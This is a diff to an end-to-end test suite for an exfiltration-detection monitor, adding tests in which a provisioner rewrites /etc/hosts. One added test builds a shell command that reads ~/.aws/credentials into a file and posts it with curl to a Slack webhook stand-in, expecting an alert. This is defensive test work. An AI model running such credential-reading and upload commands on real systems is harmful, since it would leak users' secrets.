@@ -1,5 +1,5 @@
 """Everyday developer and operations workflows with the real clients (git, aws, gh, rclone,
-s3cmd, restic) stay silent, and each one's attack twin (the same tool sending the secret itself,
+s3cmd, restic, scp, a provisioner rewriting /etc/hosts) stay silent, and each one's attack twin (the same tool sending the secret itself,
 or to a destination the rules do not declare) alerts with the right sub-technique (issue 13).
 
 The clients reach real service names on a loopback address of their own (E2E_STORAGE_ADDRESS,
@@ -21,6 +21,7 @@ import pytest
 from harness import Monitor, alert_threshold, get, make_certificate, private_hosts, run_scenario
 from harness import paths, summarize
 from harness.records import as_list, kind
+from harness.config import HTTPS_PORT
 from harness.services import BackgroundProcess, wait_until
 
 STORAGE_ADDRESS = os.environ.get("E2E_STORAGE_ADDRESS", "127.0.0.27")
@@ -435,3 +436,54 @@ def test_run_state_dir_learns_the_upload_job(home, storage, rules_file, tmp_path
     assert lines[0] == "exfilwatch-jobs v1"
     jobs = [line.split("\t") for line in lines[1:]]
     assert any(job[4] == "/usr/bin/rclone" and job[5].endswith("s3.amazonaws.com") for job in jobs), lines
+
+
+# --- a provisioner rewriting /etc/hosts ----------------------------------------------------------
+
+PROVISION = ("python3 -c 'import os; creds = open(os.path.expanduser(\"~/.aws/credentials\")).read(); "
+             "open(\"{target}\", \"w\").write(\"127.0.0.1 localhost\\n127.0.0.1 hooks.slack.com\\n\" "
+             "+ (creds if \"{target}\" != \"/etc/hosts\" else \"\"))' && ")
+
+
+def provisioner_view(tmp_path):
+    """A private /etc/hosts the provisioner may rewrite (the host's stays untouched)."""
+    return private_hosts(["hooks.slack.com"], tmp_path / "etc")
+
+
+def test_provisioner_rewriting_etc_hosts_then_a_webhook_is_silent(monitor, home, standin, tmp_path):
+    # The provisioner read a credential and rewrote /etc/hosts; curl resolves through that file
+    # and posts a notification: /etc/hosts is never a staging file, so no data reached curl.
+    view = provisioner_view(tmp_path)
+    command = (PROVISION.format(target="/etc/hosts") +
+               f"curl -sk -d '{{\"text\":\"deployed\"}}' https://hooks.slack.com:{HTTPS_PORT}/services/T/B/X")
+    done = run_scenario(command, home.env(), view=view, timeout=COMMAND_TIMEOUT_S)
+    assert done.returncode == 0, done.stderr[-2000:]
+    standin.wait_for_request(lambda r: r.get("path") == "/services/T/B/X", what="the webhook post")
+
+    def flow(record):
+        return (get(record, "event.action") == "flow-summary" and get(record, "destination.port") == HTTPS_PORT
+                and get(record, "destination.domain") == "hooks.slack.com")
+    monitor.wait_for(flow, FLOW_TIMEOUT_S, "the webhook flow")
+    monitor.stop()
+    found = [r for r in monitor.records() if kind(r) == "alert" and get(r, "destination.port") == HTTPS_PORT
+             and get(r, "destination.domain") == "hooks.slack.com"]
+    assert not found, summarize(found)
+    assert_no_secrets(monitor, home)
+
+
+def test_provisioner_staging_the_credential_in_a_file_posted_to_a_webhook_alerts(monitor, home, standin, tmp_path):
+    view = provisioner_view(tmp_path)
+    command = (PROVISION.format(target=str(home.path / "deploy.env")) +
+               f"curl -sk --data-binary @$HOME/deploy.env https://hooks.slack.com:{HTTPS_PORT}/services/T/B/Y")
+    done = run_scenario(command, home.env(), view=view, timeout=COMMAND_TIMEOUT_S)
+    assert done.returncode == 0, done.stderr[-2000:]
+    threshold = alert_threshold()
+
+    def matches(record):
+        return (kind(record) == "alert" and get(record, "destination.port") == HTTPS_PORT
+                and get(record, "event.risk_score", 0) >= threshold
+                and "T1567.004" in [str(v) for v in as_list(get(record, "threat.technique.subtechnique.id"))])
+    monitor.poll_for(matches, ALERT_TIMEOUT_S)
+    monitor.stop()
+    assert [r for r in monitor.records() if matches(r)], summarize(monitor.records(), 40)
+    assert_no_secrets(monitor, home)
